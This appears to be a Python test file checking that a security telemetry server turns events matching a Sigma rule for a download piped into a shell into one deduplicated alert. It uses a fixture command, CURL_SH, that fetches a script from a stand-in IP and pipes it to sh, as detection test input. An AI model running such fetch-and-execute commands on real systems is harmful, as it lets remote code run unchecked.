"""Telemetry that matches a Sigma rule becomes an alert with Defender's fields, deduplicated."""

from __future__ import annotations

from tests.support import VigilServer, enroll_raw, post_batch, process_event

CURL_SH = "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'"


def test_matching_events_raise_one_deduplicated_alert(server: VigilServer) -> None:
    dev = enroll_raw(server, server.onboarding_package()["token"], "db-01").json()
    did = dev["device_id"]
    benign = process_event(did, 1, ProcessCommandLine="ls -la /srv")
    bad = [
        process_event(did, 2, Timestamp="2026-11-28T09:00:00Z", ProcessCommandLine=CURL_SH, FileName="sh",
                      FolderPath="/usr/bin/dash", InitiatingProcessFileName="bash", InitiatingProcessId=77),
        process_event(did, 3, Timestamp="2026-11-28T09:10:00Z", ProcessCommandLine=CURL_SH, FileName="sh",
                      FolderPath="/usr/bin/dash"),
    ]
    assert post_batch(server, dev["credential"], [benign, bad[0]]).status_code == 200
    assert post_batch(server, dev["credential"], [bad[1]]).status_code == 200
    with server.client(server.admin_token()) as c:
        alerts = c.get("/api/alerts").json()["value"]
        assert [a["title"] for a in alerts] == ["Download Piped Into a Shell"]
        a = alerts[0]
        assert a["machineId"] == did
        assert a["severity"] == "Medium" and a["status"] == "New"
        assert a["category"] == "Execution" and a["detectionSource"] == "Sigma"
        assert a["mitreTechniques"] == ["T1059.004", "T1105"]
        assert a["eventCount"] == 2
        assert a["firstEventTime"] == "2026-11-28T09:00:00Z" and a["lastEventTime"] == "2026-11-28T09:10:00Z"
        assert a["evidence"][0]["ProcessCommandLine"] == CURL_SH
        assert a["evidence"][0]["InitiatingProcessFileName"] == "bash"
        assert c.get(f"/api/alerts/{a['id']}").json()["id"] == a["id"]
        assert c.get("/api/alerts", params={"severity": "High"}).json()["value"] == []
        assert c.get("/api/alerts", params={"severity": "Severe"}).status_code == 422
        assert c.get("/api/alerts/nope").status_code == 404


def test_a_resent_batch_does_not_raise_the_alert_twice(sqlite_server: VigilServer) -> None:
    server = sqlite_server
    dev = enroll_raw(server, server.onboarding_package()["token"]).json()
    ev = process_event(dev["device_id"], 1, ProcessCommandLine=CURL_SH)
    for _ in range(2):
        assert post_batch(server, dev["credential"], [ev], batch_id="batch-fixed-id").status_code == 200
    with server.client(server.admin_token()) as c:
        alerts = c.get("/api/alerts").json()["value"]
    assert len(alerts) == 1 and alerts[0]["eventCount"] == 1
